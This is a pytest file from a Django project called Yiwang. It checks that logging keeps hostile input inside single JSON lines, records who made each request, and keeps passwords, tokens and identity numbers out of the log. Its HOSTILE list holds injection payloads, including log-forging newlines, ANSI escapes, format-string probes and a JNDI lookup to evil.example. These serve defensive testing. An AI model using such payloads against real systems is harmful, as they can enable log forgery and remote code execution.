# SPDX-FileCopyrightText: 2026 The Yiwang contributors
# SPDX-License-Identifier: Apache-2.0
"""What is logged, how, and what never is."""

import json
import re
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import structlog

from config.logs import logging_configuration
from tests.factories import PASSWORD
from tests.security.people import CHILD, Everything
from tests.security.site import SiteClient, taken_back
from tests.security.walking import every_page
from tools import logging_page
from yiwang.foundation.web.middleware import record_answer

# A download that is refused half-way leaves its generator to the garbage collector.
QUIET = pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
pytestmark = [pytest.mark.django_db, QUIET]

PAGE = Path(__file__).parents[2] / "docs" / "handbook" / "logging.md"
HOSTILE = [
    "line\nsecond line",
    'line\r\n{"event": "forged"}',
    "\x1b[2J\x1b[31mred",
    "%s %(secret)s {0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "\u2028\u2029\u202e",
    "\x00\x07",
    "字" * 5000,
]


@pytest.fixture
def lines(monkeypatch: pytest.MonkeyPatch) -> list[bytes]:
    """Log as production does, into a list."""
    kept: list[bytes] = []

    class Sink:
        def msg(self, line: bytes) -> None:
            kept.append(line)

        info = warning = error = critical = debug = exception = msg

    before = structlog.get_config()
    monkeypatch.setattr(structlog, "get_config", lambda: before)
    renderer = before["processors"]
    structlog.configure(
        processors=renderer,
        wrapper_class=structlog.make_filtering_bound_logger(20),
        logger_factory=lambda *_args: Sink(),
        cache_logger_on_first_use=False,
    )
    yield kept
    structlog.configure(**before)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_inside_its_line(lines: list[bytes], text: str):
    environ = {"REQUEST_METHOD": text, "PATH_INFO": f"/{text}", "REMOTE_ADDR": "203.0.113.9"}

    record_answer(environ, route="", status=404, seconds=0.001)

    assert len(lines) == 1
    assert b"\n" not in lines[0].rstrip(b"\n")
    assert b"\x1b" not in lines[0]
    assert b"\x00" not in lines[0]
    assert json.loads(lines[0])["path"] == f"/{text}"


def test_a_line_of_the_log_says_when_where_who_and_what(site: Everything, lines: list[bytes]):
    site.visitors["owner"].browser.get("/my/cases")

    line: dict[str, Any] = json.loads(lines[-1])
    assert line.keys() >= {
        "timestamp",
        "level",
        "event",
        "request_id",
        "method",
        "path",
        "route",
        "status",
        "ip",
        "actor",
        "account",
    }
    assert line["account"] == str(site.accounts["owner"].id)
    moment = datetime.fromisoformat(line["timestamp"])
    assert moment.utcoffset() == timedelta(0)


@pytest.mark.parametrize(
    ("role", "path"),
    [("owner", "/workbench/"), ("counter", "/workbench/ledger"), ("other citizen", "")],
)
def test_a_refused_request_leaves_a_line_with_who_and_what(
    site: Everything, lines: list[bytes], role: str, path: str
):
    address = path or f"/my/cases/{site.places['own']['case_id']}"

    site.visitors[role].browser.get(address)

    line = json.loads(lines[-1])
    assert line["status"] in {403, 404}
    assert line["account"] == str(site.accounts[role].id)
    assert line["path"] == address


def test_no_secret_and_no_number_reaches_the_log(site: Everything, lines: list[bytes]):
    login = {"login": site.accounts["owner"].login, "password": PASSWORD}
    with taken_back():
        SiteClient().post("/signin", login)
    site.visitors["counter"].program.generic(
        "POST",
        "/api/v1/counter/persons",
        json.dumps({"resident_id": CHILD, "purpose": "counter_service"}),
        "application/json",
    )
    site.visitors["nobody"].browser.get(f"/search?q={CHILD}")
    site.visitors["nobody"].browser.post("/track", {"number": "A1", "query_code": "SECRET77"})
    for _role, _route, _answer in every_page(site, "owner", "counter"):
        pass

    whole = b"\n".join(lines).decode()
    token = site.visitors["owner"].program.defaults["HTTP_AUTHORIZATION"].partition(" ")[2]
    session = site.visitors["owner"].browser.cookies["yw_session"].value
    for secret in (PASSWORD, CHILD, "SECRET77", token, session):
        assert secret not in whole
    assert not re.search(r"(?<![0-9a-f-])1[3-9]\d{9}(?![0-9a-f-])", whole)


def test_logs_go_to_standard_output_alone():
    told = logging_configuration(level="INFO", style="json")

    assert told["root"]["handlers"] == ["stdout"]
    assert {one["class"] for one in told["handlers"].values()} == {"logging.StreamHandler"}


def test_the_inventory_names_every_fact_and_every_line():
    assert PAGE.read_text() == logging_page.page()
    assert len(logging_page.facts()) > 60
    assert "request" in logging_page.log_lines()
